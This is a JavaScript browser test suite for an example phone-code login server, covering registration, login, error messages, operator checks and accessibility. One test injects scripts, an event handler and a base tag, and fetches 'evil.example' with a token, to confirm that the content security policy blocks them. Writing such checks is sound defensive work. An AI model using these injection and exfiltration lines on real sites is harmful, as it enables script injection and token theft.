// The example server's page in a browser, as a person uses it.

import assert from 'node:assert/strict';
import {writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {alert, audit, browser, button, codeField, field, fits, openPage, look, nothingWasWrong, press, section, status, title} from './browser.mjs';
import {check, finish, person, scratch, secret, startServer, wrong} from './harness.mjs';

const settings = join(scratch, 'settings.json');
writeFileSync(settings, JSON.stringify({resend_cooldown: 4, max_sends_per_transaction: 2}));
const operatorToken = secret('the token of those who run the server'.replaceAll(' ', '-'));
const server = await startServer([], {PHONEAUTH_SETTINGS: settings});
const open = (hash = '', options = {}, url = server.url) => openPage(url + '/' + hash, options);

async function askForCode(page, phone, name = 'Send the code') {
  await field(page, 'Phone number').fill(phone);
  const {code} = await server.codeFor(phone, () => press(page, name));
  await codeField(page).waitFor();
  return code;
}

async function logIn(page, who) {
  await codeField(page).fill(await askForCode(page, who.phone));
  await press(page, 'Log in');
  await title(page, 'Your account');
}

async function register(page, who) {
  const code = await askForCode(page, who.phone);
  await codeField(page).fill(code);
  await field(page, 'Email').fill(who.email);
  await field(page, 'Password').fill(who.password);
  await field(page, 'Name').fill('Ada');
  await press(page, 'Create the account');
  await title(page, 'Log in');
}

const ada = person();

await check('the page says where the messages are', async () => {
  const page = await open();
  await page.getByText('prints each message to its terminal').waitFor();
  await title(page, 'Create an account');
  await look(page, 'register');
  await page.close();
});

await check('what keeps people out is found', async () => {
  const page = await open();
  await title(page, 'Create an account');
  assert.deepEqual(await audit(page), []);
  await page.evaluate(() => {
    document.documentElement.removeAttribute('lang');
    document.querySelector('header p').style.color = '#aaa';
    const input = document.querySelector('#register .first input');
    input.closest('label').replaceWith(input);
    document.querySelector('#register .first button').style.minHeight = '20px';
    document.activeElement.blur();
  });
  const found = (await audit(page)).join('\n');
  for (const each of [/^html-has-lang: /m, /^color-contrast: .*header > p/m, /^label: .*phone/m, /^a target of /m, /^nothing has the focus$/m]) assert.match(found, each);
  await page.close();
});

await check('a strict content security policy', async () => {
  const reply = await fetch(server.url + '/');
  assert.equal(reply.status, 200);
  assert.match(reply.headers.get('content-type'), /^text\/html; charset=utf-8$/i);
  const policy = reply.headers.get('content-security-policy');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /script-src 'sha256-/);
  assert.doesNotMatch(policy, /unsafe|\*|https?:/);
  for (const directive of ["connect-src 'self'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"])
    assert.ok(policy.split('; ').includes(directive), directive);
  assert.equal(reply.headers.get('x-frame-options'), 'DENY');
  assert.equal(reply.headers.get('cross-origin-opener-policy'), 'same-origin');
  assert.equal(reply.headers.get('cross-origin-resource-policy'), 'same-origin');
  assert.match(reply.headers.get('permissions-policy'), /camera=\(\)/);
  assert.equal(reply.headers.get('set-cookie'), null);
});

await check('what is injected does not run', async () => {
  const page = await browser.newPage(); // its complaints are expected
  await page.goto(server.url);
  const expected = ['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
  const tried = await page.evaluate(async (directives) => {
    const violations = new Set();
    const all = new Promise((resolve) => {
      setTimeout(resolve, 10_000);
      addEventListener('securitypolicyviolation', (event) => {
        violations.add(event.effectiveDirective);
        if (directives.every((each) => violations.has(each))) resolve();
      });
    });
    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    add('script', {textContent: 'window.ran = "script"'});
    add('script', {src: 'data:text/javascript,window.ran="data"'});
    add('div', {innerHTML: '<img src="data:," onerror="window.ran = `handler`"><p style="color: red">'});
    add('style', {textContent: 'body { display: none }'});
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    const sent = await fetch('https://evil.example/?token').then(() => 'sent', () => 'not sent');
    const frame = Object.assign(document.createElement('iframe'), {src: location.href});
    document.body.append(frame);
    await all;
    return {ran: window.ran, sent, base: document.baseURI, shown: getComputedStyle(document.body).display, violations: [...violations].sort()};
  }, expected);
  assert.deepEqual(tried.violations, expected);
  assert.equal(tried.ran, undefined);
  assert.equal(tried.sent, 'not sent');
  assert.ok(tried.base.startsWith(server.url), tried.base);
  assert.equal(tried.shown, 'block');
  assert.deepEqual(await browser.cookies(), [], 'the page uses no cookies');
  await page.close();
});

await check('registration: error texts, then the account', async () => {
  const page = await open('#/register');
  await press(page, 'Send the code');
  await alert(page, 'Phone number is missing.');
  await look(page, 'register-missing');
  await field(page, 'Phone number').fill('12');
  await press(page, 'Send the code');
  await alert(page, /phone number.*error 14001/i);
  assert.equal(await field(page, 'Phone number').getAttribute('aria-invalid'), 'true');

  const code = await askForCode(page, ada.phone);
  await look(page, 'register-code');
  assert.equal(await codeField(page).getAttribute('autocomplete'), 'one-time-code');
  assert.equal(await codeField(page).getAttribute('inputmode'), 'numeric');
  await field(page, 'Email').fill(ada.email);
  await field(page, 'Password').fill(ada.password);
  await press(page, 'Create the account');
  await alert(page, 'Code is missing.');
  await codeField(page).fill(wrong(code));
  await press(page, 'Create the account');
  await alert(page, /code is wrong.*4 tries left.*error 14021/);
  await look(page, 'register-wrong-code');
  await codeField(page).fill(code);
  await field(page, 'Password').fill('short');
  await press(page, 'Create the account');
  await alert(page, /password.*error 14010/i);
  await field(page, 'Password').fill(ada.password);
  await field(page, 'Email').fill('nobody');
  await press(page, 'Create the account');
  await alert(page, /email.*error 3040/i);
  await look(page, 'register-email');
  await field(page, 'Email').fill(ada.email);
  await field(page, 'Name').fill('Ada');
  await press(page, 'Create the account');
  await status(page, 'Welcome, Ada.');
  await title(page, 'Log in');
  await look(page, 'login-welcome');
  assert.equal(await field(page, 'Phone number').inputValue(), ada.phone);
  await page.close();
});

await check('what the server does not offer is not shown', async () => {
  const page = await open('#/login');
  await title(page, 'Log in');
  assert.equal(await page.getByText('Forgotten your password?').isVisible(), false);
  await page.goto(server.url + '/#/reset');
  await title(page, 'Create an account');
  await page.close();
});

await check('an email address that is taken', async () => {
  const page = await open('#/register');
  const code = await askForCode(page, person().phone);
  await codeField(page).fill(code);
  await field(page, 'Email').fill(ada.email);
  await field(page, 'Password').fill(ada.password);
  await press(page, 'Create the account');
  await alert(page, /already exists.*error 3033/);
  await page.close();
});

await check('login with a code; the account; a property; logout', async () => {
  const page = await open('#/login');
  const code = await askForCode(page, ada.phone);
  await codeField(page).fill(wrong(code));
  await press(page, 'Log in');
  await alert(page, /4 tries left/);
  await look(page, 'login-code');
  await codeField(page).fill(code.slice(0, 3) + ' ' + code.slice(3));
  await press(page, 'Log in');
  await title(page, 'Your account');
  await status(page, 'You are logged in.');
  await look(page, 'account');
  const facts = await page.locator('#user').innerText();
  assert.match(facts, new RegExp(ada.email));
  assert.match(facts, /user-token\s+[0-9A-F]{8}….{4}(\s|$)/);

  assert.equal(await section(page).getByText(/trusted? (this )?device/i).locator('visible=true').count(), 0);
  await press(page, 'Still valid?');
  await status(page, 'Yes, the session is valid.');
  await page.reload();
  await title(page, 'Your account');

  await field(page, 'Property').fill('city');
  await field(page, 'Value').fill('London');
  await press(page, 'Save');
  await status(page, 'Saved.');
  assert.match(await page.locator('#user').innerText(), /city\s+London/);
  await press(page, 'Reload');
  await status(page, 'Reloaded.');
  assert.match(await page.locator('#user').innerText(), /city\s+London/);
  await field(page, 'Property').fill('phoneNumber');
  await field(page, 'Value').fill('+15005559999');
  await press(page, 'Save');
  await alert(page, /error 8008/);
  await look(page, 'account-property', section(page).getByRole('alert').filter({hasText: '8008'}));
  await field(page, 'Property').fill('city');
  await field(page, 'Value').fill('null');
  await press(page, 'Save');
  await status(page, 'Saved.');
  assert.doesNotMatch(await page.locator('#user').innerText(), /city/);

  await press(page, 'Log out');
  await status(page, 'You are logged out.');
  await look(page, 'login-logged-out');
  await title(page, 'Log in');
  await page.close();
});

await check('login with password and code', async () => {
  const page = await open('#/login');
  await section(page).getByLabel('Password and code').check();
  await field(page, 'Phone number').fill(ada.phone);
  await section(page).locator('input[name=password]').fill('not my password');
  await press(page, 'Send the code');
  await alert(page, /Invalid login or password.*error 3003/);
  await look(page, 'login-password');
  await section(page).locator('input[name=password]').fill(ada.password);
  await logIn(page, ada);
  await page.close();
});

await check('the service: messages, tokens, questions', async () => {
  const page = await open('#/login');
  await logIn(page, ada);
  await page.getByRole('link', {name: 'Service'}).click();
  await title(page, 'Try the service');
  const token = await page.locator('#token input').inputValue();
  assert.match(token, /^[0-9A-F-]{36}$/, 'the current token is filled in');
  await look(page, 'service');
  await field(page, 'To').first().fill('+15005550006');
  await field(page, 'Message').fill('Grüße');
  await field(page, 'Media URL').fill('http://example.com/a.png');
  await press(page, 'Send');
  await alert(page, /https.*error 14003/);
  await field(page, 'Media URL').fill('https://example.com/a.png');
  await field(page, 'Options').fill('{');
  await press(page, 'Send');
  await alert(page, 'The options are not JSON.');
  await look(page, 'service-options');
  await field(page, 'Options').fill('{"ValidityPeriod": 600}');
  const {text} = await server.message('+15005550006', () => press(page, 'Send'));
  assert.match(text, /Grüße/);
  await status(page, 'handed to Twilio');
  await look(page, 'service-sent', page.locator('#reply'));
  assert.match(await page.locator('#reply').innerText(), /"sid": "(SM|MM)/);
  await field(page, 'To').first().fill('+15005550004');
  await press(page, 'Send');
  await alert(page, /error 14030, Twilio 21610/);

  await press(page, 'Is it valid?');
  await page.locator('#reply').filter({hasText: /^true$/}).waitFor();
  await field(page, 'User token').fill('nonsense');
  await press(page, 'Is it valid?');
  await page.locator('#reply').filter({hasText: /^false$/}).waitFor();
  await press(page, 'info');
  await page.locator('#reply').filter({hasText: '"rtURL"'}).waitFor();
  await press(page, 'userclassprops');
  await page.locator('#reply').filter({hasText: '"identity": true'}).waitFor();

  await page.getByText('On the wire').click();
  const wire = await page.locator('#wire').innerText();
  assert.match(wire, /POST \/api\/services\/Twilio\/sendMessage/);
  await look(page, 'wire', page.locator('#wire'));
  assert.ok(!wire.includes(token), 'the token is left out');
  await page.close();
});

const operators = (page) => page.getByRole('heading', {name: 'For operators'});

const testConfiguration = async (page, token) => {
  await field(page, "Operators' token").fill(token);
  await press(page, 'Test configuration');
};

await check('operators test the configuration: the right one', async () => {
  const own = await startServer(['--fake-twilio', 'fine'], {PHONEAUTH_SETTINGS: settings, PHONEAUTH_OPERATOR_TOKEN: operatorToken});
  const page = await open('#/service', {}, own.url);
  await title(page, 'Try the service');
  const operator = page.locator('#operator');
  await press(page, 'Test configuration');
  await alert(page, "Operators' token is missing.");
  await testConfiguration(page, 'not the token');
  await alert(page, /token is missing or wrong.*error 14013/);
  assert.equal(await operator.locator('[name=token]').getAttribute('aria-invalid'), 'true');
  await look(page, 'configuration-token', operators(page));
  await testConfiguration(page, operatorToken);
  await status(page, 'Codes can be sent.');
  await page.locator('#report-title:focus').waitFor();
  const findings = await page.getByRole('list', {name: 'What was found'}).getByRole('listitem').allInnerTexts();
  for (const name of ['destinations', 'segments', 'callback', 'region', 'connection', 'clock', 'credentials', 'key', 'account', 'sender', 'sms', 'mms', 'countries', 'look-up'])
    assert.equal(findings.filter((text) => new RegExp(`^(OK|Note)\\s+${name}: `).test(text)).length, 1, `${name} among ${findings.join('\n')}`);
  await press(page, 'Test configuration');
  await alert(page, /has just been tested\. Wait \d+ s\./);
  await look(page, 'configuration-again', operators(page));
  assert.equal(await page.locator('#findings:visible').count(), 0, 'what is old is gone');
  await page.getByText('On the wire').click();
  const wire = await page.locator('#wire').innerText();
  assert.match(wire, /GET \/operator\/test-configuration/);
  assert.ok(!(await page.content()).includes(operatorToken), 'the token is nowhere on the page');
  assert.equal(await page.evaluate(() => JSON.stringify([{...sessionStorage}, {...localStorage}])), '[{},{}]');
  await page.close();
  await own.stop();
});

await check('operators test the configuration: what is wrong comes with its remedy', async () => {
  const own = await startServer(['--fake-twilio', 'sender-without-sms'], {PHONEAUTH_SETTINGS: settings, PHONEAUTH_OPERATOR_TOKEN: operatorToken});
  const page = await open('#/service', {}, own.url);
  await title(page, 'Try the service');
  await testConfiguration(page, operatorToken);
  await status(page, /^Codes cannot be sent: 1 of 14 checks failed\. \d\snotes?\.$/);
  const finding = page.locator('#findings li').filter({hasText: 'Failed'});
  assert.match(await finding.innerText(), /^Failed\s+sms: The sender cannot send SMS\.\s+Set twilio\.sender to a number that can\.$/);
  await look(page, 'configuration-wrong', operators(page));
  await page.setViewportSize({width: 360, height: 740});
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'nothing is wider than the screen');
  await page.close();
  await own.stop();
});

await check('operators without a token are told how to have one', async () => {
  const page = await open('#/service');
  await title(page, 'Try the service');
  await testConfiguration(page, operatorToken);
  await alert(page, /no token for operators: start it with PHONEAUTH_OPERATOR_TOKEN/);
  await look(page, 'configuration-none', operators(page));
  await page.close();
});

await check('a session that ended elsewhere', async () => {
  const page = await open('#/login');
  await logIn(page, ada);
  const token = secret(JSON.parse(await page.evaluate(() => sessionStorage.getItem('phoneauth')))['user-token']);
  await fetch(server.url + '/api/users/logout', {headers: {'user-token': token}});
  await press(page, 'Still valid?');
  await status(page, 'not valid any more');
  await look(page, 'account-invalid');
  await press(page, 'Reload');
  await title(page, 'Log in');
  await alert(page, /error 3064/);
  await look(page, 'login-ended');
  await page.close();
});

await check('a code that arrives', async () => {
  const page = await open('#/register');
  const code = await askForCode(page, person().phone);
  const progress = section(page).locator('.progress:visible');
  await progress.filter({hasText: /^It was delivered\. 5 tries left, [45]:\d\d min\.$/}).waitFor();
  await look(page, 'register-delivered');
  await codeField(page).fill(wrong(code));
  await field(page, 'Email').fill('ada@example.net');
  await field(page, 'Password').fill(ada.password);
  await press(page, 'Create the account');
  await progress.filter({hasText: '4 tries left'}).waitFor();
  await page.close();
});

await check('a code that does not arrive; what a person writes meanwhile stays', async () => {
  const page = await open('#/register', {clock: true});
  await askForCode(page, '+15005553006');
  await codeField(page).pressSequentially('12');
  const progress = section(page).locator('.progress:visible');
  await progress.filter({hasText: /^It was not delivered\. The phone number is a landline.*\(Twilio 30006\)/}).waitFor();
  await look(page, 'register-not-delivered');
  const asked = await page.locator('#wire li').count();
  const polls = [];
  page.on('response', (response) => { if (response.url().endsWith('/transactionStatus')) polls.push(response.status()); });
  while (polls.length < 2) await page.waitForResponse(/transactionStatus/);
  assert.equal(await codeField(page).inputValue(), '12');
  assert.equal(await page.evaluate(() => document.activeElement.name), 'code');
  assert.equal(await page.locator('#wire li').count(), asked, 'only news are shown');
  await press(page, 'Start again');
  let asking = 0;
  page.on('request', () => { asking += 1; });
  await page.clock.runFor(20_000);
  assert.equal(asking, 0, 'nothing more is asked');
  await page.close();
});

await check('a login by code does not tell whether it arrives', async () => {
  const page = await open('#/login');
  await field(page, 'Phone number').fill('+15005553003');
  await press(page, 'Send the code');
  await codeField(page).waitFor();
  const progress = section(page).locator('.progress:visible');
  await page.waitForResponse(/transactionStatus/);
  await page.waitForResponse(/transactionStatus/);
  assert.match((await progress.innerText()).trim(), /^5 tries left, [45]:\d\d min\.$/);
  await page.close();
});

await check('send again: countdown, a second message, the cap', async () => {
  const who = person();
  const page = await open('#/register');
  const code = await askForCode(page, who.phone);
  const again = button(page, /^Send again/);
  assert.match(await again.innerText(), /^Send again in [1-4] s$/);
  assert.equal(await again.getAttribute('aria-disabled'), 'true');
  await section(page).getByRole('button', {name: 'Send again', exact: true}).waitFor();
  const {code: second} = await server.codeFor(who.phone, () => again.click());
  assert.equal(second, code, 'the same code');
  await status(page, 'sent again');
  await section(page).getByRole('button', {name: 'Send again', exact: true}).click();
  await alert(page, /error 14028/);
  await look(page, 'register-sent-again');
  await press(page, 'Start again');
  assert.equal(await field(page, 'Phone number').inputValue(), who.phone);
  await page.close();
});

await check('too many wrong codes', async () => {
  const page = await open('#/login');
  const code = await askForCode(page, ada.phone);
  for (const left of ['4 tries left', '3 tries left', '2 tries left', '1 try left']) {
    await codeField(page).fill(wrong(code));
    await press(page, 'Log in');
    await alert(page, left);
  }
  await codeField(page).fill(wrong(code));
  await press(page, 'Log in');
  await alert(page, /error 1402[14]/);
  await codeField(page).fill(code);
  await press(page, 'Log in');
  await alert(page, /start again.*error 14024/);
  await button(page, 'Start again').and(page.locator(':focus')).waitFor();
  await look(page, 'login-too-many');
  await page.close();
});

await check('by keyboard alone', async () => {
  const who = person();
  const page = await open('#/register');
  const focused = () => page.evaluate(() => document.activeElement.name || document.activeElement.textContent.trim());
  const tabTo = async (name) => {
    for (let i = 0; i < 20; ++i) {
      if (await focused() === name) return;
      await page.keyboard.press('Tab');
    }
    assert.fail(`no way to ${name} by Tab; the focus is on ${await focused()}`);
  };
  await tabTo('phone');
  await page.keyboard.type(who.phone);
  const {code} = await server.codeFor(who.phone, () => page.keyboard.press('Enter'));
  await page.locator('[name=code]:focus').waitFor();
  await page.keyboard.type(wrong(code));
  await tabTo('identity');
  await page.keyboard.type(who.email);
  await tabTo('password');
  await page.keyboard.type(who.password);
  await page.keyboard.press('Enter');
  await page.locator('[name=code][aria-invalid]:focus').waitFor();
  await page.keyboard.type(code); // what is wrong is selected, so typing replaces it
  await page.keyboard.press('Enter');
  await title(page, 'Log in');
  assert.equal(await focused(), 'Log in');
  await tabTo('way');
  await page.keyboard.press('ArrowDown');
  await tabTo('phone');
  assert.equal(await page.locator('[name=phone]:focus').inputValue(), who.phone);
  await tabTo('password');
  await page.keyboard.type(who.password);
  const second = await server.codeFor(who.phone, () => page.keyboard.press('Enter'));
  await page.locator('[name=code]:focus').waitFor();
  await page.keyboard.type(second.code);
  await page.keyboard.press('Enter');
  await title(page, 'Your account');
  await tabTo('Log out');
  await page.keyboard.press('Enter');
  await status(page, 'logged out');
  await page.close();
});

await check('on a phone', async () => {
  const who = person();
  const page = await open('#/register', {viewport: {width: 360, height: 740}});
  const usable = async () => assert.deepEqual(await fits(page), []);
  await usable();
  await register(page, who);
  await usable();
  const code = await askForCode(page, who.phone);
  await usable();
  await codeField(page).fill(code);
  await press(page, 'Log in');
  await title(page, 'Your account');
  await usable();
  await page.getByRole('link', {name: 'Service'}).click();
  await title(page, 'Try the service');
  await usable();
  await page.close();
});

await check('the phone as identity, under a name of its own', async () => {
  const file = join(scratch, 'identity.json');
  writeFileSync(file, JSON.stringify({phone_column: 'mobile', identity_column: 'mobile'}));
  const other = await startServer([], {PHONEAUTH_SETTINGS: file});
  const who = person();
  const page = await open('#/register', {}, other.url);
  await field(page, 'Phone number').fill(who.phone);
  const {code} = await other.codeFor(who.phone, () => press(page, 'Send the code'));
  await codeField(page).fill(code);
  assert.equal(await section(page).locator('[name=identity]:visible').count(), 0, 'nobody is asked for another identity');
  await look(page, 'register-phone-alone');
  await field(page, 'Password').fill(who.password);
  await press(page, 'Create the account');
  await title(page, 'Log in');
  const login = await other.codeFor(who.phone, () => press(page, 'Send the code'));
  await codeField(page).fill(login.code);
  await press(page, 'Log in');
  await title(page, 'Your account');
  assert.match(await page.locator('#user').innerText(), /mobile\s+\+1500/);
  await page.close();
  await other.stop();
});

await check('in the dark', async () => {
  const page = await open();
  const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  await page.emulateMedia({colorScheme: 'light'});
  const light = await ground();
  await page.emulateMedia({colorScheme: 'dark'});
  assert.notEqual(await ground(), light);
  await page.close();
});

await check('a server that is gone', async () => {
  const page = await open('#/register');
  const ended = await server.stop();
  assert.deepEqual(ended, {status: 0, signal: null});
  await field(page, 'Phone number').fill(person().phone);
  await press(page, 'Send the code');
  await alert(page, 'The server cannot be reached.');
  await look(page, 'register-no-server');
  await page.close();
});

await nothingWasWrong(/ERR_CONNECTION_REFUSED/);

await browser.close();
finish();
